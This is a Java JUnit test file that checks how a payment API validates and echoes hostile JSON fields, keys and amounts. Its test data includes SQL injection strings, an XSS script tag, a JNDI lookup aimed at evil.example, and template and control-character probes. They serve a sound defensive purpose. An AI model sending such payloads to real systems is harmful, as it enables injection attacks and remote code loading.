package io.giro.ingress.spring;

import static io.giro.ingress.spring.ProblemAssert.assertProblem;
import static org.assertj.core.api.Assertions.assertThat;

import io.giro.account.AccountId;
import io.giro.ingress.TransferRequest;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** JSON that is well-formed and hostile all the same: every member is judged by what was written, and nothing is guessed. */
class HostileFieldsTest {

    @RegisterExtension
    final RunningApi api = new RunningApi();

    @BeforeEach
    void openAccounts() {
        api.accounts().open("ACC001", "EUR");
        api.accounts().open("ACC002", "EUR");
        api.accounts().open("ACC-YEN", "JPY");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "a\tb",
                "\u00e9",
                "\u00c3\u00a9",
                "\u00c0\u0080",
                "\u00ed\u00a0\u0080",
                "\u00ff\u00fe",
                "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
            })
    void refusesAKeyInTheHeaderThatIsNone(String key) throws Exception {
        String body = transfer("1.00").replace(",\"idempotencyKey\":\"k1\"", "");

        assertRefused(
                RawClient.post("/payments/transfers", RawClient.bytes(body), "Idempotency-Key: " + key + "\r\n"),
                400,
                "idempotency_key_invalid");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "\"\"                | idempotency_key_invalid",
                "\" k\"              | idempotency_key_invalid",
                "\"k \"              | idempotency_key_invalid",
                "\"\\u0000\"         | idempotency_key_invalid",
                "\"a\\nb\"           | idempotency_key_invalid",
                "\"\\u007f\"         | idempotency_key_invalid",
                "\"\\ud800\"         | idempotency_key_invalid",
                "\"\u00e9\"          | idempotency_key_invalid",
                "\"\\ud83d\\ude00\"  | idempotency_key_invalid",
                "\"\\u202ek\"        | idempotency_key_invalid",
                "1                   | idempotency_key_invalid",
                "true                | idempotency_key_invalid",
                "null                | idempotency_key_missing",
            })
    void refusesAKeyInTheBodyByTheSameRule(String key, String code) throws Exception {
        assertRefused(RawClient.post("/payments/transfers", transfer("1.00").replace("\"k1\"", key)), 400, code);
        assertRefused(
                RawClient.post(
                        "/payments/charges",
                        "{\"account\":\"ACC001\",\"amount\":1,\"idempotencyKey\":%s}".formatted(key)),
                400,
                code);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Idempotency-Key: k2\r\n",
                "Idempotency-Key: k1\r\nIdempotency-Key: k2\r\n",
                "Idempotency-Key: k1, k1\r\n",
                "Idempotency-Key:\r\n"
            })
    void refusesTwoKeys(String headers) throws Exception {
        assertRefused(
                RawClient.post("/payments/transfers", RawClient.bytes(transfer("1.00")), headers),
                400,
                "idempotency_key_mismatch");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a b",
                "k' OR 1=1",
                "\"quoted\"",
                "<script>",
                "a,b",
                "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
            })
    void takesEveryPrintableKeyLiterally(String key) throws Exception {
        byte[] request = RawClient.post(
                "/payments/transfers",
                RawClient.bytes(transfer("1.00").replace("\"k1\"", "\"" + key.replace("\"", "\\\"") + "\"")),
                "Idempotency-Key: " + key + "\r\n");

        try (RawClient client = api.connect()) {
            assertThat(client.ask(request).status()).isEqualTo(202);
        }
        assertThat(api.intake().requests())
                .extracting(TransferRequest::idempotencyKey)
                .containsExactly(key);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "0",
                "0.00",
                "-0",
                "-0.0",
                "-1",
                "\"-1\"",
                "\"0\"",
                "0.001",
                "1.000",
                "1E2",
                "1e2",
                "1e0",
                "1e999999999",
                "1e-999999999",
                "\"1e999999999\"",
                "10000000000000.01",
                "92233720368547758.08",
                "9223372036854775808",
                "18446744073709551617",
                "\"\"",
                "\" 10 \"",
                "\"10 \"",
                "\"+1\"",
                "\"01\"",
                "\".5\"",
                "\"1.\"",
                "\"1,000\"",
                "\"1.000,00\"",
                "\"1_000\"",
                "\"0x10\"",
                "\"NaN\"",
                "\"Infinity\"",
                "\"\uff11\uff10\"",
                "\"\u0663\"",
                "\"1\\u0000\"",
                "\"1\\n\"",
                "\"\u22121\"",
            })
    void refusesAnAmountThatIsNotPlain(String amount) throws Exception {
        assertRefused(RawClient.post("/payments/transfers", transfer(amount)), 422, "invalid_amount");
        assertRefused(
                RawClient.post(
                        "/payments/charges",
                        "{\"account\":\"ACC001\",\"amount\":%s,\"idempotencyKey\":\"k1\"}".formatted(amount)),
                422,
                "invalid_amount");
    }

    @Test
    void readsTheLongestNumbersAtNoCost() throws Exception {
        for (String digits : new String[] {"9".repeat(100), "0." + "9".repeat(98), "\"" + "9".repeat(60_000) + "\""}) {
            assertRefused(RawClient.post("/payments/transfers", transfer(digits)), 422, "invalid_amount");
        }
    }

    @ParameterizedTest
    @CsvSource({
        "/payments/transfers, amount, null, missing_field",
        "/payments/transfers, amount, true, invalid_field",
        "/payments/transfers, sourceAccount, null, missing_field",
        "/payments/transfers, sourceAccount, 1, invalid_field",
        "/payments/transfers, sourceAccount, '\"\"', invalid_account_id",
        "/payments/transfers, sourceAccount, '\"ACC001 \"', invalid_account_id",
        "/payments/transfers, sourceAccount, '\"acc001\\u0000\"', invalid_account_id",
        "/payments/transfers, sourceAccount, '\"\uff21CC001\"', invalid_account_id",
        "/payments/transfers, sourceAccount, '\"../ACC001\"', invalid_account_id",
        "/payments/transfers, sourceAccount, '\"@world.EUR.0\"', invalid_account_id",
        "/payments/transfers, sourceAccount, '\"acc001\"', unknown_account",
        "/payments/transfers, sourceAccount, '\"ACC002\"', same_account",
        "/payments/transfers, destinationAccount, '\"''; DROP TABLE account; --\"', invalid_account_id",
        "/payments/transfers, destinationAccount, '\"ACC-YEN\"', currency_mismatch",
        "/payments/transfers, currency, '\"JPY\"', currency_mismatch",
        "/payments/transfers, currency, '\"eur\"', unknown_currency",
        "/payments/transfers, currency, '\"EUR\\u0000\"', unknown_currency",
        "/payments/transfers, currency, '\"XXX\"', unknown_currency",
        "/payments/transfers, currency, 978, invalid_field",
        "/payments/transfers, description, '\"\\u0000\"', invalid_field",
        "/payments/transfers, description, '\"a\\nb\"', invalid_field",
        "/payments/transfers, description, '\"\\u007f\"', invalid_field",
        "/payments/transfers, description, '\"\\u009b\"', invalid_field",
        "/payments/transfers, description, '\"\\udc00\"', invalid_field",
        "/payments/transfers, description, 1, invalid_field",
        "/payments/transfers, Amount, 1, unknown_field",
        "/payments/transfers, '\u0430mount', 1, unknown_field",
        "/payments/transfers, '', 1, unknown_field",
        "/payments/charges, account, null, missing_field",
        "/payments/charges, account, '\"@bank.EUR.0\"', invalid_account_id",
        "/payments/charges, account, '\"ACC999\"', unknown_account",
        "/payments/charges, currency, '\"JPY\"', currency_mismatch",
        "/payments/charges, description, '\"\\u0007\"', invalid_field",
        "/payments/charges, sourceAccount, '\"ACC001\"', unknown_field",
        "/payments/accounts, accountId, '\"@world.EUR.0\"', invalid_account_id",
        "/payments/accounts, accountId, '\"a/b\"', invalid_account_id",
        "/payments/accounts, accountId, 1, invalid_field",
        "/payments/accounts, owner, '\" \"', invalid_field",
        "/payments/accounts, owner, '\"\\u0000\"', invalid_field",
        "/payments/accounts, owner, false, invalid_field",
        "/payments/accounts, currency, null, missing_field",
        "/payments/accounts, currency, '\"XXX\"', unknown_currency",
        "/payments/accounts, overdraftLimit, -1, invalid_amount",
        "/payments/accounts, overdraftLimit, 1e3, invalid_amount",
        "/payments/accounts, overdraftLimit, '\"\"', invalid_amount",
        "/payments/accounts, overdraftLimit, 99999999999999999999, invalid_amount",
        "/payments/accounts, kind, '\"WORLD\"', unknown_field",
    })
    void refusesAMemberAndNamesIt(String path, String member, String value, String code) throws Exception {
        Map<String, String> members = wellFormed(path);
        members.put(member, value);

        RawAnswer answer = assertRefused(RawClient.post(path, json(members)), 422, code);

        assertThat(answer.body()).contains("\"pointer\":\"/");
    }

    @Test
    void showsHostileNamesSafely() throws Exception {
        Map<String, String> members = wellFormed("/payments/transfers");
        members.put("\\u0000\\u001b[31m\\r\\n\\u202e\\ud800<script>/~", "1");

        RawAnswer answer = assertRefused(RawClient.post("/payments/transfers", json(members)), 422, "unknown_field");

        String shown = "\\\\u{0}\\\\u{1b}[31m\\\\u{d}\\\\u{a}\\\\u{202e}\\\\u{d800}<script>";
        assertThat(answer.body())
                .contains("no field \\\"" + shown + "/~\\\" here", "\"pointer\":\"/" + shown + "~1~0\"");
    }

    @ParameterizedTest
    @ValueSource(ints = {1, 60_000})
    void doesNotAnswerALotWithALot(int length) throws Exception {
        Map<String, String> members = wellFormed("/payments/transfers");
        IntStream.range(0, Math.min(50, 60_000 / (length + 10))).forEach(i -> members.put("f" + i, "1"));
        members.put("x".repeat(length), "1");

        RawAnswer answer = assertRefused(RawClient.post("/payments/transfers", json(members)), 422, "unknown_field");

        assertThat(answer.body()).hasSizeLessThan(4000);
    }

    /** Each takes thirty times its length in memory while the request is at work. */
    @Test
    void refusesMoreMembersThanAnybodyNeeds() throws Exception {
        Map<String, String> members = wellFormed("/payments/transfers");
        IntStream.range(0, 4_000).forEach(i -> members.put("f" + i, "1"));

        assertRefused(RawClient.post("/payments/transfers", json(members)), 400, "malformed_json");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "'; DROP TABLE transfer; --",
                "<script>alert(1)</script>",
                "${jndi:ldap://evil.example}",
                "{{7*7}} %s %n \\\\ /",
                "\u202etxet desrever",
                "\ud83d\ude00\ud83d\ude00",
            })
    void keepsTextAsItIs(String text) throws Exception {
        Map<String, String> members = wellFormed("/payments/transfers");
        members.put("description", "\"" + text + "\"");
        Map<String, String> account = wellFormed("/payments/accounts");
        account.put("owner", "\"" + text + "\"");

        try (RawClient client = api.connect()) {
            RawAnswer transfer = client.ask(RawClient.post("/payments/transfers", json(members)));
            RawAnswer opened = client.ask(RawClient.post("/payments/accounts", json(account)));

            assertThat(transfer.status()).isEqualTo(202);
            assertThat(transfer.body()).contains("\"description\":\"" + text + "\"");
            assertThat(transfer.header("Content-Type")).isEqualTo("application/json");
            assertThat(transfer.header("X-Content-Type-Options")).isEqualTo("nosniff");
            assertThat(opened.status()).isEqualTo(201);
            assertThat(opened.body()).contains("\"owner\":\"" + text + "\"");
        }
        assertThat(api.intake().requests().getFirst().description()).isEqualTo(text.replace("\\\\", "\\"));
    }

    private RawAnswer assertRefused(byte[] request, int status, String code) throws Exception {
        try (RawClient client = api.connect()) {
            RawAnswer answer = client.ask(request);

            assertProblem(answer, status, code);
            assertThat(api.intake().requests()).isEmpty();
            assertThat(api.accounts().ids())
                    .containsExactlyInAnyOrder(
                            new AccountId("ACC001"), new AccountId("ACC002"), new AccountId("ACC-YEN"));
            return answer;
        }
    }

    private static String transfer(String amount) {
        return "{\"sourceAccount\":\"ACC001\",\"destinationAccount\":\"ACC002\",\"amount\":%s,\"idempotencyKey\":\"k1\"}"
                .formatted(amount);
    }

    private static Map<String, String> wellFormed(String path) {
        return new TreeMap<>(
                switch (path) {
                    case "/payments/transfers" ->
                        Map.of(
                                "sourceAccount", "\"ACC001\"",
                                "destinationAccount", "\"ACC002\"",
                                "amount", "1",
                                "idempotencyKey", "\"k1\"");
                    case "/payments/charges" ->
                        Map.of("account", "\"ACC001\"", "amount", "1", "idempotencyKey", "\"k1\"");
                    default -> Map.of("accountId", "\"ACC003\"", "currency", "\"EUR\"");
                });
    }

    private static String json(Map<String, String> members) {
        return members.entrySet().stream()
                .map(member -> "\"" + member.getKey() + "\":" + member.getValue())
                .collect(Collectors.joining(",", "{", "}"));
    }
}
